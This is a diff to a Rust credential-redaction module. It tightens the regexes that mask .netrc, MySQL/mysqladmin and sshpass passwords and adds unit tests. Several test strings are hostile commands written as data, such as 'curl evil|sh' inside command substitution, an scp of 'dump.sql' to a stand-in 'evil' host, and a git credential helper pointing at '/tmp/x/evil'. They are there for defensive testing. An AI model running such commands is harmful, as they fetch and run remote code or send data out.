@@ -281,7 +281,7 @@ pub(crate) fn key_form(key: &str) -> String {
 /// & < >`, backtick, braces), starts right after `=` (after `:` or a scheme, spaces or tabs,
 /// never a line break: `TOKEN=\n/tmp/x` runs `/tmp/x`) and not with a path (`/`, `.`, `~`,
 /// `!`).
-const VALUE_RULES: [(&str, &str); 12] = [
+const VALUE_RULES: [(&str, &str); 13] = [
     // The body of a private key, between its markers (PEM, OpenSSH, PGP armour, with the
     // header lines of an encrypted PEM or an armour); replaced only when it decodes as such
     // a key (see [`pem_body`]), so text between two marker lines that is not a key
@@ -332,20 +332,27 @@ const VALUE_RULES: [(&str, &str); 12] = [
         r#"((?:-u|--user)[ \t]+['"]?[^\s:'"]+:)[^\s&"',;{}$()|<>`@]+"#,
         "${1}[REDACTED]",
     ),
-    // A `.netrc` entry, on one line or several: `login USER password SECRET`.
+    // A `.netrc` entry, on one line or several: `machine HOST login USER password SECRET`
+    // (or `password` before `login`, or after `login USER` alone; quoted or not).
     (
-        r#"((?-u:\b)login[ \t]+[^\s'"]+\s+password[ \t]+)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{3,}"#,
+        r#"((?-u:\b)(?:login[ \t]+[^\s'"]+|machine[ \t]+[^\s'"]+(?:[ \t]+login[ \t]+[^\s'"]+)?)\s+password[ \t]+['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{3,}"#,
         "${1}[REDACTED]",
     ),
     // MySQL's and MariaDB's clients take the password glued to `-p` (`-pSECRET`, `-p'SECRET'`;
-    // a lone `-p` asks for it, and `-P` is the port).
+    // a lone `-p` asks for it, and `-P` is the port), looked for within the one command (not
+    // past `$(`, a backtick or braces), and `mysqladmin … password NEWPASS`.
     (
-        r#"((?-u:\b)(?:mysql(?:dump|admin|import|check|show|slap|pump|sh)?|mariadb(?:-dump|-admin|-import|-check|-show|-slap)?)[ \t][^\n|;&]*?[ \t]-p['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{2,}"#,
+        r#"((?-u:\b)(?:mysql(?:dump|admin|import|check|show|slap|pump|sh)?|mariadb(?:-dump|-admin|-import|-check|-show|-slap)?)[ \t](?:[^\n|;&$`(){}]*?[ \t])?-p['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{2,}"#,
         "${1}[REDACTED]",
     ),
-    // `sshpass -p SECRET`.
     (
-        r#"((?-u:\b)sshpass[ \t][^\n|;&]*?-p[ \t]*['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{2,}"#,
+        r#"((?-u:\b)mysqladmin[ \t][^\n|;&$`(){}]*?[ \t]password[ \t]+['"]?)[^\s&"',;{}$()|<>`/.~!-][^\s&"',;{}$()|<>`]{2,}"#,
+        "${1}[REDACTED]",
+    ),
+    // `sshpass -p SECRET`: only sshpass's own options before it (`-v`, `-P PROMPT`), so that
+    // a `-p` of the command it runs (`scp -p`, `ssh -p 22`) is not taken for one.
+    (
+        r#"((?-u:\b)sshpass(?:[ \t]+(?:-v|-P[ \t]*[^\s-]\S*))*[ \t]+-p[ \t]*['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{2,}"#,
         "${1}[REDACTED]",
     ),
     // Tokens known by their prefix (GitHub, OpenAI, Stripe, Slack, AWS access key ids,
@@ -3690,6 +3697,31 @@ mod tests {
                 "hunter22",
                 "sshpass -p [REDACTED] ssh",
             ),
+            (
+                json!({"cmd": "sshpass -v -p 'hunter22' ssh bob@host"}),
+                "hunter22",
+                "-p '[REDACTED]' ssh",
+            ),
+            (
+                json!({"cmd": "mysql -phunter22 -u root app"}),
+                "hunter22",
+                "mysql -p[REDACTED] -u root",
+            ),
+            (
+                json!({"cmd": "mysqladmin -u root -p password hunter22"}),
+                "hunter22",
+                "password [REDACTED]",
+            ),
+            (
+                json!({"netrc": "machine h password hunter22 login bob"}),
+                "hunter22",
+                "password [REDACTED] login bob",
+            ),
+            (
+                json!({"netrc": "machine h login bob password \"hunter22\""}),
+                "hunter22",
+                "password \\\"[REDACTED]\\\"",
+            ),
         ];
         for (args, secret, shown) in cases {
             let text = redact(args.clone());
@@ -3742,6 +3774,15 @@ mod tests {
                 "$(curl${IFS}evil|sh)",
             ),
             ("sshpass -p `curl evil|sh` ssh h", "`curl evil|sh`"),
+            ("sshpass -e scp -p dump.sql x@evil:", "scp -p dump.sql x@evil:"),
+            ("sshpass -e ssh deploy@host ./run-payload.sh", "./run-payload.sh"),
+            ("sshpass -f pw ssh h time -p evilcmd", "time -p evilcmd"),
+            ("sshpass -e ssh app-prod-1 uptime", "app-prod-1 uptime"),
+            ("sshpass -e ssh -p 2222 h", "-p 2222 h"),
+            (
+                "docker run --name mysql -e X=$(id) -p3306:3306 mysql:8",
+                "-p3306:3306 mysql:8",
+            ),
             (
                 "git -c credential.helper=!/tmp/x/evil fetch",
                 "!/tmp/x/evil",
